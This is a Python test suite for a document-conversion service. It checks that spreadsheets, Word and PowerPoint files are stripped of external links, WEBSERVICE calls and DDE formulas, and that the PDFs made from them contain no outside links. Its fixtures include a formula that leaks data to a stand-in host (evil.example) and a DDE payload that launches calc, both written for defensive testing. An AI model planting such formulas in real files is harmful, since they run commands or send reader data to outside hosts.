"""A converted document never calls out (issue 10): hyperlinks, external workbook references,
WEBSERVICE and DDE formulas of an uploaded office file are neutralised before LibreOffice sees it,
and the PDF it makes keeps no link or action that opens anything outside the document."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pypdf
import pytest

from documents.models import DocumentVersion, ProcessingState
from documents.sanitize import reaches_outside, sanitize_ooxml, strip_pdf_links
from documents.tasks import process_version
from documents.tests.conftest import make_version

OUTSIDE = "evil.example"


def outside_actions(pdf: bytes) -> list[object]:
    """Every annotation action in the PDF other than a jump to one of its own pages."""
    found = []
    for page in pypdf.PdfReader(io.BytesIO(pdf)).pages:
        for reference in page.get("/Annots") or []:
            annotation = reference.get_object()
            action = annotation.get("/A")
            if action is not None and action.get_object().get("/S") != "/GoTo":
                found.append(action.get_object())
            if "/AA" in annotation:
                found.append(annotation["/AA"])
    return found


def processed_pdf(version: DocumentVersion) -> bytes:
    assert process_version.call(version.pk) == ProcessingState.DONE
    version.refresh_from_db()
    with version.pdf.open("rb") as handle:
        return handle.read()


def add_external_workbook(content: bytes) -> bytes:
    """The parts Excel writes for a formula like =[1]Sheet1!A1 that reads another workbook."""
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "xl/workbook.xml":
                data = data.replace(
                    b"</sheets><definedNames/>",
                    b"</sheets><externalReferences><externalReference "
                    b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rIdX1"/>'
                    b'</externalReferences><definedNames><definedName name="Rate">[1]Sheet1!$B$2</definedName></definedNames>',
                )
                assert b"externalReferences" in data
            elif info.filename == "xl/worksheets/sheet1.xml":  # Excel keeps the last value it read
                data = data.replace(b"<f>[1]Sheet1!A1</f><v></v>", b"<f>[1]Sheet1!A1</f><v>1234</v>")
                assert b"<v>1234</v>" in data
            elif info.filename == "xl/_rels/workbook.xml.rels":
                data = data.replace(
                    b"</Relationships>",
                    b'<Relationship Id="rIdX1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>',
                )
            elif info.filename == "[Content_Types].xml":
                data = data.replace(
                    b"</Types>",
                    b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>',
                )
            target.writestr(info, data)
        target.writestr(
            "xl/externalLinks/externalLink1.xml",
            '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            '<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames>'
            '<sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1" t="n"><v>42</v></cell></row></sheetData>'
            "</sheetDataSet></externalBook></externalLink>",
        )
        target.writestr(
            "xl/externalLinks/_rels/externalLink1.xml.rels",
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
            f'Target="http://{OUTSIDE}/share/budget.xlsx" TargetMode="External"/></Relationships>',
        )
    return out.getvalue()


def calling_out_xlsx() -> bytes:
    import openpyxl
    from openpyxl.worksheet.hyperlink import Hyperlink

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.title = "Dự toán"
    sheet["A1"] = f'=HYPERLINK("http://{OUTSIDE}/leak?who=reader","Bấm vào đây")'
    sheet["A2"] = "Trang chủ của sở"
    sheet["A2"].hyperlink = f"https://{OUTSIDE}/cell"
    sheet["A3"] = f'=WEBSERVICE("http://{OUTSIDE}/ws")'
    sheet["A4"] = "=cmd|'/C calc'!A0"
    sheet["A5"] = "=[1]Sheet1!A1"
    sheet["A6"] = "=SUM(40,2)"
    sheet["A7"] = "Nội bộ"
    sheet["A7"].hyperlink = Hyperlink(ref="A7", location="'Dự toán'!A1")  # a jump inside the workbook stays
    buffer = io.BytesIO()
    workbook.save(buffer)
    return add_external_workbook(buffer.getvalue())


def test_a_spreadsheet_that_calls_out_becomes_a_pdf_without_outside_links(meeting, organiser, lo_converter) -> None:
    version = make_version(meeting, organiser, calling_out_xlsx(), "xlsx")
    pdf = processed_pdf(version)

    assert outside_actions(pdf) == []
    assert OUTSIDE.encode() not in pdf
    assert "Bấm vào đây" in version.text and "Trang chủ của sở" in version.text
    assert "1234" in version.text and "42" in version.text  # an outside reference keeps its last value
    assert OUTSIDE not in version.text
    with version.file.open("rb") as handle:  # the original is kept as uploaded
        assert OUTSIDE.encode() in zipfile.ZipFile(handle).read("xl/worksheets/_rels/sheet1.xml.rels")


def test_sanitizing_a_workbook_removes_every_way_out_and_keeps_the_values(tmp_path) -> None:
    source, target = tmp_path / "in.xlsx", tmp_path / "out.xlsx"
    source.write_bytes(calling_out_xlsx())

    report = sanitize_ooxml(source, target)

    assert report.formulas == 4 and report.hyperlinks == 1 and report.names == 1 and report.relationships == 2
    archive = zipfile.ZipFile(target)
    assert not [name for name in archive.namelist() if "externalLink" in name]
    for name in archive.namelist():
        data = archive.read(name)
        assert OUTSIDE.encode() not in data and b'TargetMode="External"' not in data, name
    sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "HYPERLINK" not in sheet and "WEBSERVICE" not in sheet and "cmd|" not in sheet and "[1]" not in sheet
    assert "Bấm vào đây" in sheet and "<f>SUM(40,2)</f>" in sheet and 'location="' in sheet
    assert b"externalReferences" not in archive.read("xl/workbook.xml")
    assert b"externalLink" not in archive.read("[Content_Types].xml")
    assert archive.testzip() is None


def docx_with_link() -> bytes:
    import docx
    from docx.opc.constants import RELATIONSHIP_TYPE
    from docx.oxml.ns import qn
    from docx.oxml.parser import OxmlElement

    document = docx.Document()
    paragraph = document.add_paragraph("Xem chi tiết tại ")
    rel_id = document.part.relate_to(f"http://{OUTSIDE}/docx", RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    link = OxmlElement("w:hyperlink")
    link.set(qn("r:id"), rel_id)
    run = OxmlElement("w:r")
    text = OxmlElement("w:t")
    text.text = "cổng thông tin"
    run.append(text)
    link.append(run)
    paragraph._p.append(link)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def pptx_with_link() -> bytes:
    import pptx

    presentation = pptx.Presentation()
    slide = presentation.slides.add_slide(presentation.slide_layouts[1])
    slide.shapes.title.text = "Kết quả thực hiện"
    run = slide.placeholders[1].text_frame.paragraphs[0].add_run()
    run.text = "Tài liệu gốc"
    run.hyperlink.address = f"http://{OUTSIDE}/pptx"
    buffer = io.BytesIO()
    presentation.save(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("file_type", "make", "shown"),
    [("docx", docx_with_link, "cổng thông tin"), ("pptx", pptx_with_link, "Tài liệu gốc")],
)
def test_document_and_presentation_links_are_not_live_in_the_pdf(
    meeting, organiser, lo_converter, file_type, make, shown
) -> None:  # type: ignore[no-untyped-def]
    version = make_version(meeting, organiser, make(), file_type)
    pdf = processed_pdf(version)
    assert outside_actions(pdf) == [] and OUTSIDE.encode() not in pdf
    assert shown in version.text


def test_links_to_outside_are_stripped_from_a_pdf_and_jumps_inside_it_stay(tmp_path) -> None:
    from fpdf import FPDF

    pdf = FPDF()
    pdf.set_font("helvetica", size=14)
    pdf.add_page()
    inside = pdf.add_link(page=2)
    pdf.cell(text="Go to page 2", link=inside, new_x="LMARGIN", new_y="NEXT")
    pdf.cell(text="Outside", link=f"https://{OUTSIDE}/pdf")
    pdf.add_page()
    pdf.cell(text="Page 2")
    path = tmp_path / "links.pdf"
    path.write_bytes(bytes(pdf.output()))
    assert len(outside_actions(path.read_bytes())) == 1

    assert strip_pdf_links(path) == 1

    content = path.read_bytes()
    assert outside_actions(content) == [] and OUTSIDE.encode() not in content
    reader = pypdf.PdfReader(path)
    assert len(reader.pages) == 2 and len(reader.pages[0]["/Annots"].get_object()) == 1  # type: ignore[arg-type]  # the jump to page 2
    assert strip_pdf_links(path) == 0


@pytest.mark.parametrize(
    ("formula", "outside"),
    [
        ('HYPERLINK("http://x","y")', True),
        ('_xlfn.WEBSERVICE("http://x")', True),
        ('_xlfn.IMAGE("http://x/a.png")', True),
        ("[2]Data!B4*2", True),
        ("cmd|'/C calc'!A0", True),
        ('INDIRECT("A"&B1)', True),
        ("SUM(A1:A9)", False),
        ('"HYPERLINK(" & "|" & "[1]"', False),
        ("Table1[[#This Row],[Amount]]", False),
        ("MYHYPERLINK(A1)", False),
    ],
)
def test_formulas_that_reach_outside_are_recognised(formula: str, outside: bool) -> None:
    assert reaches_outside(formula) is outside


def test_a_damaged_office_file_fails_with_the_damaged_file_reason(meeting, organiser) -> None:
    version = make_version(meeting, organiser, b"PK\x03\x04 not really a zip", "xlsx")
    assert process_version.call(version.pk) == ProcessingState.FAILED
    version.refresh_from_db()
    assert "XLSX" in version.error and Path(version.file.path).read_bytes().startswith(b"PK")
